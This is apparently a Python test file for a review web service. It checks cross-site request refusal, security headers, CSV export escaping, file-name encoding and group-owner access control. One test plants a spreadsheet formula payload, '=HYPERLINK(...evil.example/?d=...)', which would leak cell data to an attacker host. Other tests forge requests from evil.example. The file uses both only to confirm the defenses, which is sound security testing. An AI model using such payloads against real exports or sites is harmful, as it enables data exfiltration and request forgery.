"""The attacks a review page must refuse besides stolen links: another site's form posting to
ours (login CSRF through the link exchange included), missing browser protections, formulas in
exported justifications, odd file names, reads of other people's groups and unknown campaigns."""

from __future__ import annotations

import csv
import io
import json

from fastapi.testclient import TestClient
from sqlalchemy import select, update

from services.campaign import models as m
from services.core.spreadsheet import attachment
from tests.unit.campaign.webkit import ADMIN, sign_in

JSON = {"accept": "application/json"}


def test_another_sites_form_cannot_sign_a_victim_in_or_change_anything(site, client):  # type: ignore[no-untyped-def]
    reviewer = site.reviewer_with_items()
    link = site.link(reviewer)  # the attacker's own link, posted from evil.example into the victim's browser
    for headers in ({"origin": "https://evil.example"}, {"sec-fetch-site": "cross-site"}, {"sec-fetch-site": "same-site"}):
        refused = client.post(link, headers=headers, follow_redirects=False)
        assert refused.status_code == 403 and "another site" in refused.text, headers
        assert "set-cookie" not in refused.headers
    assert not [e for e in site.deps.sink.journal if e.event_type == "review_link.opened"]  # nothing burned or recorded
    same = client.post(link, headers={"origin": "http://testserver", "sec-fetch-site": "same-origin"}, follow_redirects=False)
    assert same.status_code == 303  # the page's own form still works

    csrf = client.get(f"/campaigns/{site.campaign_id}/inbox").text.split('name="csrf_token" value="')[1].split('"')[0]
    out = client.post("/logout", data={"csrf_token": csrf}, headers={"origin": "https://evil.example"})
    assert out.status_code == 403 and client.get(f"/campaigns/{site.campaign_id}/inbox").status_code == 200


def test_behind_a_proxy_the_public_origin_is_this_site(site):  # type: ignore[no-untyped-def]
    from services.campaign.wiring import build_app

    public = site.settings.model_copy(update={"public_base_url": "https://review.corp.example/"})
    with TestClient(build_app(public, site.deps), base_url="http://10.0.0.7:8080") as behind_proxy:
        answer = behind_proxy.post(site.link(site.reviewer_with_items()), headers={"origin": "https://review.corp.example"})
        assert answer.status_code == 200
        assert answer.headers["strict-transport-security"].startswith("max-age=31536000")


def test_every_answer_carries_the_browser_protections(client):  # type: ignore[no-untyped-def]
    page = client.get("/signed-out")
    assert page.headers["cross-origin-opener-policy"] == "same-origin"
    assert "camera=()" in page.headers["permissions-policy"] and "geolocation=()" in page.headers["permissions-policy"]
    assert "frame-ancestors 'none'" in page.headers["content-security-policy"]
    assert "strict-transport-security" not in page.headers  # plain http: HSTS would be ignored or wrong


def test_exported_justifications_never_run_as_formulas(site, client):  # type: ignore[no-untyped-def]
    with site.deps.sessions.begin() as session:
        first = session.scalar(select(m.ReviewTask.task_id).where(m.ReviewTask.campaign_id == site.campaign_id).limit(1))
        session.execute(
            update(m.ReviewTask)
            .where(m.ReviewTask.task_id == first)
            .values(justification='=HYPERLINK("https://evil.example/?d="&A1,"ok")', decision="approve")
        )
    sign_in(client, site, ADMIN, None)
    exported = client.get(f"/admin/campaigns/{site.campaign_id}/export.csv")
    assert exported.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(exported.text)) for c in row]
    assert any(c.startswith("'=HYPERLINK(") for c in cells)
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    assert exported.headers["content-disposition"] == attachment(f"{site.campaign_id}.csv")


def test_a_file_name_outside_latin_1_is_encoded_not_a_server_error() -> None:
    value = attachment('Überprüfung "Q4" 第四季度.csv')
    assert value.startswith("attachment; filename=\"_berpr_fung _Q4_ ____.csv\"; filename*=UTF-8''")
    assert "%E7%AC%AC" in value and value.encode("latin-1")  # every byte is sendable in a header


def test_an_unknown_campaign_is_not_found_not_an_empty_export(site, client):  # type: ignore[no-untyped-def]
    sign_in(client, site, ADMIN, None)
    assert client.get("/admin/campaigns/c-does-not-exist/export.csv", headers=JSON).status_code == 404


def _group_item(site):  # type: ignore[no-untyped-def]
    with site.deps.sessions() as session:
        for task in session.scalars(select(m.ReviewTask).where(m.ReviewTask.campaign_id == site.campaign_id)):
            resource = json.loads(task.entitlement_json)["resource"]
            if resource["type"] == "group" and "security" not in task.reviewer:
                return task.reviewer, resource["id"]
    raise AssertionError("the scenario has no review item on a group")


def test_a_groups_owners_are_shown_to_its_reviewers_and_staff_only(site, client):  # type: ignore[no-untyped-def]
    reviewer, group = _group_item(site)
    with site.deps.sessions() as session:
        on_group = {t.reviewer for t in session.scalars(select(m.ReviewTask)) if f"group:{group}|" in t.entitlement_key}
        other = next(r for r in sorted(set(session.scalars(select(m.ReviewTask.reviewer)))) if r not in on_group)
    sign_in(client, site, other)
    assert client.get(f"/groups/{group}/owners", headers=JSON).status_code == 404  # like a group that does not exist
    client.cookies.clear()
    sign_in(client, site, reviewer)
    assert client.get(f"/groups/{group}/owners").status_code == 200
    client.cookies.clear()
    sign_in(client, site, ADMIN, None)
    assert client.get(f"/groups/{group}/owners").status_code == 200
